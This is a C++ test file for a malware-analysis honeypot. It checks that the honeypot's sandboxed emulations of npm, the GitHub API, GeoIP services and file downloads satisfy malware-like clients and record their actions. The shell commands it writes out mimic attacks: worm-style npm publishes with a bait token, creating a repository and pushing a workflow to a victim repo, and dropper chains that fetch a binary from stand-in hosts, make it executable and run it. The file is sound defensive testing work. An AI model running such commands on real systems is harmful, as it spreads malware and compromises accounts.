// The honeypot's emulations end to end: a real client inside the sandbox (npm, curl, node) asks
// what malware asks, gets an answer it accepts and carries on; the honeypot's record, decoded as
// the engine decodes it, names the emulation and what was asked. All traffic stays in the run's
// namespaces: every name resolves to the honeypot.
#include <algorithm>
#include <random>

#include "engine/collect/phase_collector.h"
#include "tests/sandbox/sandbox_fixture.h"

namespace vigil::test {
namespace {

namespace collect = engine::collect;
using collect::Event;

class EmulationTest : public SandboxTest {
protected:
    /// The run's network.http events as the engine records them.
    static std::vector<Event> http(const sbx::RunResult& r) {
        std::vector<Event> out;
        for (Event& e : collect::honeypotEvents(r.netEvents, collect::PhaseClock::sampleNow()).events)
            if (e.kind == collect::kind::NetHttp)
                out.push_back(std::move(e));
        return out;
    }

    /// The first event the honeypot answered with `emulation` (and, if given, whose `emulated`
    /// record has key == value), or a failure listing the requests.
    static std::optional<Event> emulated(const sbx::RunResult& r, const std::string& emulation, const std::string& key = {},
                                         const std::string& value = {}) {
        const auto events = http(r);
        for (const Event& e : events)
            if (e.attrs.value("emulation", "") == emulation &&
                (key.empty() || (e.attrs.contains("emulated") && e.attrs["emulated"].value(key, "") == value)))
                return e;
        std::string seen;
        for (const Event& e : events)
            seen += "  " + e.attrs.value("method", "") + " " + e.attrs.value("host", "") + e.attrs.value("path", "") +
                    " emulation=" + e.attrs.value("emulation", "-") + "\n";
        ADD_FAILURE() << "no request answered as " << emulation << "; requests:\n"
                      << seen << "stdout: " << r.stdoutTail << "\nstderr: " << r.stderrTail;
        return std::nullopt;
    }

    /// Incompressible bytes: the package's tarball, base64'd in the publish body, outgrows the
    /// honeypot's record cap, so the upload must be drained, not cut, for npm to get its answer.
    static std::string noise(size_t n) {
        std::mt19937 rng(11);
        std::string s(n, '\0');
        for (char& c : s)
            c = static_cast<char>(rng());
        return s;
    }

    static bool has(const sbx::RunResult& r, const std::string& text) {
        return r.stdoutTail.find(text) != std::string::npos;
    }

    /// The run's change record of `path`, or nullopt (listing what changed).
    static std::optional<sbx::FileChange> change(const sbx::RunResult& r, const std::string& path) {
        for (const sbx::FileChange& c : r.changes)
            if (c.path == path)
                return c;
        ADD_FAILURE() << "no change recorded for " << path << " among " << r.changes.size();
        return std::nullopt;
    }
};

TEST_F(EmulationTest, NpmWhoamiViewAndPublishSucceedAndThePublishIsRecorded) {
    const auto pkg = makePackage();
    writeFile(pkg / "package.json", R"({"name":"emul-probe-widget","version":"3.1.4","main":"index.js","license":"MIT"})");
    writeFile(pkg / "index.js", "module.exports = 1;\n");
    writeFile(pkg / "payload.bin", noise(96 * 1024));
    // npm as a worm drives it: the bait home's .npmrc holds the token for registry.npmjs.org.
    const auto r = run({"sh", "-c",
                        "npm whoami > /tmp/who 2>/tmp/err; echo whoami-rc=$? user=$(cat /tmp/who);"
                        "npm view left-pad version 2>>/tmp/err | sed 's/^/view=/';"
                        "npm publish --access public >/tmp/pub 2>&1; echo publish-rc=$?; tail -n 3 /tmp/pub /tmp/err"},
                       [](sbx::RunRequest& req) { req.limits.wall = std::chrono::seconds(90); });
    EXPECT_TRUE(has(r, "whoami-rc=0")) << r.stdoutTail;
    EXPECT_TRUE(has(r, "publish-rc=0")) << r.stdoutTail;
    EXPECT_TRUE(has(r, "view=3.0.1\n")) << r.stdoutTail;

    const auto whoami = emulated(r, "npm.whoami");
    ASSERT_TRUE(whoami);
    const std::string user = whoami->attrs["emulated"].value("username", "");
    EXPECT_FALSE(user.empty());
    EXPECT_TRUE(has(r, "user=" + user + "\n")) << r.stdoutTail;  // npm printed what the honeypot said
    EXPECT_EQ(whoami->attrs["host"], "registry.npmjs.org");
    EXPECT_EQ(whoami->attrs["scheme"], "https");

    const auto view = emulated(r, "npm.metadata", "package", "left-pad");
    ASSERT_TRUE(view);

    const auto publish = emulated(r, "npm.publish");
    ASSERT_TRUE(publish);
    EXPECT_EQ(publish->attrs["method"], "PUT");
    EXPECT_EQ(publish->attrs["emulated"]["package"], "emul-probe-widget");
    EXPECT_EQ(publish->attrs["emulated"]["version"], "3.1.4");
    EXPECT_EQ(publish->attrs["emulated"]["tarball"], "emul-probe-widget-3.1.4.tgz");
    EXPECT_EQ(publish->attrs["body_truncated"], true);  // recorded in part, answered in full
}

TEST_F(EmulationTest, NpmPublishToARegistryThePackageChoseIsRecognisedByItsShape) {
    const auto pkg = makePackage();
    writeFile(pkg / "package.json", R"({"name":"@acme/emul-scoped","version":"0.2.0","license":"MIT"})");
    writeFile(pkg / "index.js", "module.exports = 2;\n");
    writeFile(pkg / "payload.bin", noise(160 * 1024));
    // Any host: a registry the package points npm at (plain HTTP, a made-up name, its own token).
    const auto r = run({"sh", "-c",
                        "npm publish --registry http://npm.packages-cdn.example:8080/ "
                        "--//npm.packages-cdn.example:8080/:_authToken=npm_forged >/tmp/pub 2>&1; echo publish-rc=$?;"
                        "tail -n 3 /tmp/pub"},
                       [](sbx::RunRequest& req) { req.limits.wall = std::chrono::seconds(90); });
    EXPECT_TRUE(has(r, "publish-rc=0")) << r.stdoutTail;
    const auto publish = emulated(r, "npm.publish");
    ASSERT_TRUE(publish);
    EXPECT_EQ(publish->attrs["host"], "npm.packages-cdn.example:8080");
    EXPECT_EQ(publish->attrs["emulated"]["package"], "@acme/emul-scoped");
    EXPECT_EQ(publish->attrs["emulated"]["version"], "0.2.0");
    EXPECT_EQ(publish->attrs["scheme"], "http");
    EXPECT_EQ(publish->attrs["body_truncated"], true);
}

TEST_F(EmulationTest, GithubUserRepoCreationAndWorkflowPushAreAcceptedAndRecorded) {
    const auto r = run({"sh", "-c",
                        "curl -sS -H 'Authorization: token ghp_x' https://api.github.com/user | "
                        "node -e \"let b='';process.stdin.on('data',d=>b+=d).on('end',()=>console.log('login='+JSON.parse(b).login))\";"
                        "curl -sS -o /tmp/repo -w 'create=%{http_code}\\n' -X POST -H 'Content-Type: application/json' "
                        "-d '{\"name\":\"s1ngularity-repository\",\"private\":false}' https://api.github.com/user/repos;"
                        "node -e \"console.log('full_name='+JSON.parse(require('fs').readFileSync('/tmp/repo')).full_name)\";"
                        "curl -sS -o /dev/null -w 'put=%{http_code}\\n' -X PUT "
                        "-d '{\"message\":\"Add workflow\",\"content\":\"b246IHB1c2g=\"}' "
                        "https://api.github.com/repos/victim/app/contents/.github/workflows/formatter.yml"});
    EXPECT_TRUE(has(r, "create=201")) << r.stdoutTail;
    EXPECT_TRUE(has(r, "put=201")) << r.stdoutTail;

    const auto user = emulated(r, "github.user");
    ASSERT_TRUE(user);
    const std::string login = user->attrs["emulated"].value("login", "");
    EXPECT_FALSE(login.empty());
    EXPECT_TRUE(has(r, "login=" + login + "\n")) << r.stdoutTail;
    EXPECT_TRUE(has(r, "full_name=" + login + "/s1ngularity-repository\n")) << r.stdoutTail;

    const auto create = emulated(r, "github.repo_create");
    ASSERT_TRUE(create);
    EXPECT_EQ(create->attrs["emulated"]["name"], "s1ngularity-repository");
    const auto put = emulated(r, "github.contents_put");
    ASSERT_TRUE(put);
    EXPECT_EQ(put->attrs["emulated"]["path"], ".github/workflows/formatter.yml");
    EXPECT_EQ(put->attrs["emulated"]["repo"], "app");
    EXPECT_EQ(put->attrs["body"], "{\"message\":\"Add workflow\",\"content\":\"b246IHB1c2g=\"}");
}

TEST_F(EmulationTest, GeoIpLookupsAnswerTheCountryTheRunAskedFor) {
    const std::string script =
        "fetch('http://ip-api.com/json').then(r=>r.json()).then(j=>console.log('ip-api='+j.countryCode))"
        ".then(()=>fetch('https://ipapi.co/json/')).then(r=>r.json()).then(j=>console.log('ipapi='+j.country_name))"
        ".catch(e=>console.log('error='+e))";
    const auto ru = run({"sh", "-c", "node -e \"" + script + "\"; echo ipinfo=$(curl -sS https://ipinfo.io/country)"},
                        [](sbx::RunRequest& req) { req.geoCountry = "RU"; });
    EXPECT_TRUE(has(ru, "ip-api=RU\n")) << ru.stdoutTail;
    EXPECT_TRUE(has(ru, "ipapi=Russia\n")) << ru.stdoutTail;
    EXPECT_TRUE(has(ru, "ipinfo=RU\n")) << ru.stdoutTail;
    const auto geo = emulated(ru, "geoip");
    ASSERT_TRUE(geo);
    EXPECT_EQ(geo->attrs["emulated"]["country"], "RU");
    EXPECT_EQ(geo->attrs["emulated"]["service"], "ip-api.com");

    // Without a setting: a plausible default, the same for every service.
    const auto plain = run({"sh", "-c", "echo ipinfo=$(curl -sS https://ipinfo.io/country)"});
    EXPECT_TRUE(has(plain, "ipinfo=US\n")) << plain.stdoutTail;
}

TEST_F(EmulationTest, NpmInstallFromTheEmulatedRegistrySucceedsAndIsNoDownload) {
    const auto pkg = makePackage();
    writeFile(pkg / "package.json", R"({"name":"emul-host-app","version":"1.0.0","license":"MIT"})");
    // What an install script does: install something more, from the registry npm knows.
    const auto r = run({"sh", "-c",
                        "npm install emul-probe-colors >/tmp/out 2>&1; echo install-rc=$?; tail -n 5 /tmp/out;"
                        "node -p '\"installed=\" + require(\"emul-probe-colors/package.json\").version'"});
    EXPECT_TRUE(has(r, "install-rc=0\n")) << r.stdoutTail << r.stderrTail;
    EXPECT_TRUE(has(r, "installed=3.0.1\n")) << r.stdoutTail << r.stderrTail;  // "latest"

    const auto metadata = emulated(r, "npm.metadata", "package", "emul-probe-colors");
    ASSERT_TRUE(metadata);
    EXPECT_EQ(metadata->attrs["host"], "registry.npmjs.org");
    const auto tarball = emulated(r, "npm.tarball", "package", "emul-probe-colors");
    ASSERT_TRUE(tarball);
    EXPECT_EQ(tarball->attrs["path"], "/emul-probe-colors/-/emul-probe-colors-3.0.1.tgz");
    EXPECT_EQ(tarball->attrs["emulated"]["version"], "3.0.1");
    EXPECT_FALSE(tarball->attrs.contains("served_sha256"));  // registry bytes are never a payload

    // npm cached the tarball and packument byte for byte and unpacked the package: none of it
    // is a downloaded payload.
    bool unpacked = false;
    for (const sbx::FileChange& c : r.changes) {
        EXPECT_FALSE(c.flags & sbx::FileChange::Served) << c.path;
        unpacked = unpacked || c.path == "/home/dev/project/node_modules/emul-probe-colors/index.js";
    }
    EXPECT_TRUE(unpacked) << r.changes.size() << " changes";
}

TEST_F(EmulationTest, NpmInstallResolvesTheRangesPackagesAskFor) {
    const auto pkg = makePackage();
    writeFile(pkg / "package.json", R"({"name":"emul-range-app","version":"1.0.0","license":"MIT"})");
    // One major each, as dependencies pin them: a single offered version made all but one ETARGET.
    const auto r = run({"sh", "-c",
                        "npm install emul-range-a@^2 emul-range-b@~1.4.0 emul-range-c@3 emul-range-d@'>=1 <2' "
                        ">/tmp/out 2>&1; echo install-rc=$?; tail -n 5 /tmp/out;"
                        "for p in a b c d; do node -p \"'$p=' + require('emul-range-' + '$p' + '/package.json').version\"; done"});
    EXPECT_TRUE(has(r, "install-rc=0\n")) << r.stdoutTail << r.stderrTail;
    EXPECT_TRUE(has(r, "a=2.1.0\n")) << r.stdoutTail << r.stderrTail;
    EXPECT_TRUE(has(r, "b=1.4.2\n")) << r.stdoutTail;
    EXPECT_TRUE(has(r, "c=3.0.1\n")) << r.stdoutTail;
    EXPECT_TRUE(has(r, "d=1.4.2\n")) << r.stdoutTail;
    const auto tarball = emulated(r, "npm.tarball", "package", "emul-range-a");
    ASSERT_TRUE(tarball);
    EXPECT_EQ(tarball->attrs["emulated"]["version"], "2.1.0");
}

TEST_F(EmulationTest, ADownloadIsKnownByTheBytesSavedNotByItsName) {
    // A name-less URL gets the generic page; saved and made executable, it is a download all the
    // same. A page saved and left alone is saved, not executable; one fetched to stdout is neither.
    const auto r = run({"sh", "-c",
                        "curl -sS -o /tmp/.x http://185.12.3.4/p && chmod +x /tmp/.x;"
                        "curl -sS -o /tmp/kworker-update.bin http://cdn.release-mirror.example/x/kworker-update.bin;"
                        "chmod 700 /tmp/kworker-update.bin;"
                        "curl -sS -o /tmp/page.html https://cdn.release-mirror.example/index.html;"
                        "curl -sS http://cdn.release-mirror.example/setup.sh >/dev/null;"
                        "printf '#!/bin/sh\\necho mine\\n' >/tmp/own.sh; chmod +x /tmp/own.sh; echo done"});
    ASSERT_TRUE(has(r, "done\n")) << r.stdoutTail << r.stderrTail;
    using F = sbx::FileChange;
    const auto page = change(r, "/tmp/.x"), elf = change(r, "/tmp/kworker-update.bin"), html = change(r, "/tmp/page.html"),
               own = change(r, "/tmp/own.sh");
    ASSERT_TRUE(page && elf && html && own);
    EXPECT_EQ(page->flags & (F::Served | F::Executable), F::Served | F::Executable);
    EXPECT_EQ(elf->flags & (F::Served | F::Executable), F::Served | F::Executable);
    EXPECT_EQ(html->flags & (F::Served | F::Executable), F::Served);
    // Written by the package itself: executable, not downloaded.
    EXPECT_EQ(own->flags & (F::Served | F::Executable), F::Executable);
    // As the engine records them: file.change attrs `downloaded` and `executable`.
    const auto recorded = collect::overlayChangeEvents(r, collect::PhaseClock::sampleNow()).events;
    const auto saved = std::find_if(recorded.begin(), recorded.end(),
                                    [](const Event& e) { return e.attrs.value("path", "") == "/tmp/.x"; });
    ASSERT_NE(saved, recorded.end());
    EXPECT_TRUE(saved->attrs.value("downloaded", false));
    EXPECT_TRUE(saved->attrs.value("executable", false));
    // The HTTP records carry the digest the helper matched against.
    const auto events = http(r);
    EXPECT_TRUE(std::all_of(events.begin(), events.end(),
                            [](const Event& e) { return e.attrs.value("served_sha256", "").size() == 64; }));
}

TEST_F(EmulationTest, DownloadedStubRunsAndItsExecIsTraced) {
    // The dropper chain: fetch, make executable, run. Both stubs exit 0 and print nothing.
    const auto r = run({"sh", "-c",
                        "curl -sS -o /tmp/kworker-update.bin http://cdn.release-mirror.example/x/kworker-update.bin && "
                        "chmod +x /tmp/kworker-update.bin && /tmp/kworker-update.bin; echo elf-rc=$?;"
                        "wget -q -O /home/dev/.cache/setup.sh https://cdn.release-mirror.example/setup.sh && "
                        "chmod 755 /home/dev/.cache/setup.sh && /home/dev/.cache/setup.sh; echo script-rc=$?"});
    EXPECT_TRUE(has(r, "elf-rc=0\n")) << r.stdoutTail << r.stderrTail;
    EXPECT_TRUE(has(r, "script-rc=0\n")) << r.stdoutTail << r.stderrTail;

    const auto events = http(r);
    const auto elf = std::find_if(events.begin(), events.end(),
                                  [](const Event& e) { return e.attrs.value("path", "") == "/x/kworker-update.bin"; });
    ASSERT_NE(elf, events.end());
    EXPECT_EQ(elf->attrs.value("emulation", ""), "download");
    EXPECT_EQ(elf->attrs["emulated"]["format"], "elf");
    const auto script = emulated(r, "download");
    ASSERT_TRUE(script);

    // The kernel saw the downloaded files executed.
    std::vector<std::string> warnings;
    const auto kernel = collect::kernelEvents(r, &warnings);
    std::vector<std::string> execs;
    for (const Event& e : kernel.events)
        if (e.kind == collect::kind::ProcessExec)
            execs.push_back(e.attrs.value("path", ""));
    auto ran = [&](const std::string& path) { return std::find(execs.begin(), execs.end(), path) != execs.end(); };
    std::string list;
    for (const std::string& p : execs)
        list += "  " + p + "\n";
    EXPECT_TRUE(ran("/tmp/kworker-update.bin")) << "execs:\n" << list;
    EXPECT_TRUE(ran("/home/dev/.cache/setup.sh")) << "execs:\n" << list;
}

}  // namespace
}  // namespace vigil::test
